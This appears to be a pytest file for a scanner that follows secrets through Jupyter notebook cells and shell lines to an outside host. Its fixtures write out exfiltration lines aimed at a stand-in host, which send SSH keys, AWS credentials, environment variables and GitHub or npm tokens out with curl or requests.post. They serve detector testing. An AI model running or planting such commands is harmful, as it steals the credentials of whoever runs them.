"""The cells of a notebook are one program, with lines for the shell among those of Python."""

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.scanner.flow import find_flows
from shared.scanner.flow.notebooks import as_python
from shared.scanner.matching import Deadline, TextFile

HOST = "in.quiet-harbor.dev"


def flows_in(*cells: str) -> list[str]:
    sources = [[line + "\n" for line in cell.split("\n")] for cell in cells]
    notebook = {"cells": [{"cell_type": "code", "source": source} for source in sources]}
    return described(json.dumps(notebook, indent=1))


def described(text: str) -> list[str]:
    texts = [TextFile("start.ipynb", text, text)]
    return [flow.description for flow in find_flows(texts, Deadline(time.thread_time() + 20))]


STOLEN = {
    "a name from an earlier cell": (
        "import os, requests\ntoken = os.environ['GITHUB_TOKEN']",
        "!pip install -q x\n%matplotlib inline",
        f"requests.post('https://{HOST}', data=token)",
    ),
    "a line for the shell": (f"!curl -d @$HOME/.ssh/id_rsa https://{HOST}",),
    "a line with a value of the program": (
        "import os\nkey = os.environ['NPM_TOKEN']",
        f"!curl -d 'k={{key}}' https://{HOST}",
    ),
    "what a line prints": (
        "out = !cat ~/.aws/credentials",
        f"import requests\nrequests.post('https://{HOST}', json=out)",
    ),
    "a cell for the shell": (f"%%bash\nenv | curl -d @- https://{HOST}",),
}


@pytest.mark.parametrize("name", STOLEN)
def test_a_value_is_followed_through_the_cells(name: str) -> None:
    flows = flows_in(*STOLEN[name])
    assert flows
    assert all(HOST in flow for flow in flows)


def test_a_step_names_the_line_of_the_file() -> None:
    assert flows_in(*STOLEN["a name from an earlier cell"]) == [
        f"reads `GITHUB_TOKEN` (start.ipynb:7) → sent to {HOST} (start.ipynb:20), which is not GitHub's"
    ]


def test_text_between_cells_is_not_code() -> None:
    cell = {"cell_type": "markdown", "source": f"requests.post('https://{HOST}', data=dict(os.environ))"}
    assert described(json.dumps({"cells": [cell]})) == []


def test_lines_of_the_notebook_keep_their_number() -> None:
    text = "a = 1\n!ls $a {a} $HOME\nif a:\n    %cd x\nb != a"
    assert as_python(text, {"a"}).split("\n") == [
        "a = 1",
        "subprocess.getoutput('ls ' + str(a) + ' ' + str(a) + ' $HOME')",
        "if a:",
        "    pass",
        "b != a",
    ]


@given(st.recursive(st.none() | st.text(max_size=8), lambda inner: st.lists(inner, max_size=4), max_leaves=8))
@settings(max_examples=25, deadline=None)
def test_no_notebook_raises_an_error(source: object) -> None:
    words = f"os.environ requests.post https://{HOST}"
    described(json.dumps({"cells": [source, {"cell_type": "code", "source": source}, words]}))
    described(f"{json.dumps(source)} {words}")
